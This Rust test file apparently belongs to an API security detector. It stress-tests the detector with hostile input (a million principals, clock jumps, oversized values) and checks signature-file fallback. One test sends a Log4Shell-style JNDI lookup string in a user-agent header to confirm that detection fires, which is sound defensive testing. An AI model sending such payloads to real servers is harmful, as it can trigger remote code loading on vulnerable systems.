//! Hostile input: a million principals, clock jumps, huge numbers, many endpoints and findings.
//! Memory stays bounded, evictions are counted, nothing panics.

mod common;

use std::sync::Arc;

use common::*;
use sonde_detect::{DetectConfig, Detectors};
use sonde_inventory::{AuthScheme, Inventory, InventoryConfig};

fn base() -> (Ex, sonde_inventory::CallInfo) {
    let mut inv = Inventory::new(InventoryConfig::default());
    let e = Ex::new([10, 9, 9, 9], "GET", "/api/orders/123")
        .bearer(&jwt("u", 2_000_000_000))
        .json(r#"{"id":123}"#);
    let call = inv.observe(&e.0, T0);
    (e, call)
}

#[test]
fn a_million_random_principals_stay_bounded() {
    let cfg = DetectConfig {
        max_principals: 10_000,
        ..DetectConfig::default()
    };
    let mut d = Detectors::new(cfg);
    let (e, mut call) = base();
    let mut rng = Rng(99);
    let mut now = T0;
    for i in 0..1_000_000u64 {
        call.auth.principal = Some(format!("{:016x}{:016x}", rng.next(), i));
        d.observe(&e.0, &call, now);
        now += 1_000; // 1 µs apart: a million tokens within one second
        if i % 100_000 == 0 {
            let _ = d.drain();
        }
    }
    let st = d.stats();
    println!("{st:?}");
    assert!(st.principals <= 10_000);
    assert!(st.principal_evictions >= 990_000);
    assert!(st.approx_heap_bytes < 64 << 20, "{}", st.approx_heap_bytes);
    assert!(d.drain().iter().all(|a| a.kind != "bola.enumeration"));
}

#[test]
fn clock_jumps_and_extreme_numbers_do_not_panic() {
    let mut d = Detectors::new(DetectConfig {
        learn_min_calls: 5,
        learn_min_secs: 0,
        ..DetectConfig::default()
    });
    let (e, call) = base();
    let times = [
        T0,
        T0 - 86_400_000_000_000,
        0,
        u64::MAX,
        u64::MAX,
        1,
        T0,
        T0 + 1,
        u64::MAX / 2,
        0,
    ];
    for (i, &t) in times.iter().cycle().take(200).enumerate() {
        let mut e2 = Ex(e.0.clone());
        let mut c2 = call.clone();
        match i % 5 {
            0 => {
                if let Some(r) = e2.0.response.as_mut() {
                    r.body.wire_len = u64::MAX;
                    r.status = 999;
                }
            }
            1 => {
                c2.latency_ns = Some(u64::MAX);
                c2.status = Some(0);
            }
            2 => {
                e2.0.request.path = format!("/api/orders/{}", "9".repeat(5000));
                c2.template = Arc::from("/{int}/{int}/{int}/{int}/{int}/{int}/{int}");
            }
            3 => {
                e2.0.request.path = "/".repeat(70_000);
                c2.auth.scheme = AuthScheme::Basic;
                c2.auth.principal = None;
                c2.auth.jwt = None;
            }
            _ => {
                if let Some(r) = e2.0.response.as_mut() {
                    r.body = body(&[b'['; 20_000]);
                    r.body.wire_len = u64::MAX;
                }
            }
        }
        d.observe(&e2.0, &c2, t);
        let _ = d.drain();
    }
    let st = d.stats();
    assert!(
        st.clock_backwards > 0 && st.clock_forward_clamped > 0,
        "{st:?}"
    );
}

#[test]
fn endpoints_and_findings_are_bounded() {
    let cfg = DetectConfig {
        max_endpoints: 500,
        max_groups: 300,
        ..DetectConfig::default()
    };
    let mut d = Detectors::new(cfg);
    let (_, call) = base();
    let e = Ex::new([10, 9, 9, 9], "GET", "/x/1")
        .bearer(&unsigned_jwt("u", 2_000_000_000))
        .json("{}");
    let mut now = T0;
    for i in 0..20_000u32 {
        let mut c = call.clone();
        c.endpoint = Arc::from(format!("svc GET /x/{i}/{{int}}"));
        c.template = Arc::from(format!("/x/{i}/{{int}}"));
        c.auth.principal = Some(format!("p{i}"));
        c.auth.jwt = Some(Arc::new(sonde_inventory::JwtSummary {
            unsigned: true,
            ..Default::default()
        }));
        d.observe(&e.0, &c, now);
        now += 1_000_000;
    }
    let st = d.stats();
    assert!(st.endpoints <= 500 && st.endpoint_evictions > 0, "{st:?}");
    assert!(st.groups <= 300 && st.group_evictions > 0, "{st:?}");
    assert!(d.drain().len() <= 300);
}

#[test]
fn a_bad_signature_file_falls_back_to_the_builtin_set() {
    let dir = tempfile::tempdir().expect("tempdir");
    let p = dir.path().join("sigs.toml");
    std::fs::write(&p, "[[signature]]\nid = 'x'\n").expect("write");
    let cfg = DetectConfig {
        signatures_path: Some(p.clone()),
        ..DetectConfig::default()
    };
    assert!(Detectors::try_new(cfg.clone()).is_err());
    let mut d = Detectors::new(cfg);
    let (_, call) = base();
    let e = Ex::new([10, 9, 9, 9], "GET", "/x")
        .header("user-agent", "${jndi:ldap://a/b}")
        .json("{}");
    d.observe(&e.0, &call, T0);
    assert!(d.drain().iter().any(|a| a.kind == "exploit.jndi_lookup"));

    // A custom file replaces the built-in set.
    std::fs::write(
        &p,
        "[[signature]]\nid='canary'\nkind='exploit.canary'\ntitle='Canary'\ncategory='API8'\nseverity='low'\ntargets=['query']\npatterns=['canary-123']\n",
    )
    .expect("write");
    let mut d = Detectors::try_new(DetectConfig {
        signatures_path: Some(p),
        ..DetectConfig::default()
    })
    .expect("custom");
    let e = Ex::new([10, 9, 9, 9], "GET", "/x?q=CANARY-123")
        .header("user-agent", "${jndi:ldap://a/b}")
        .json("{}");
    d.observe(&e.0, &call, T0);
    let kinds: Vec<String> = d.drain().into_iter().map(|a| a.kind).collect();
    assert_eq!(kinds, vec!["exploit.canary".to_owned()]);
}
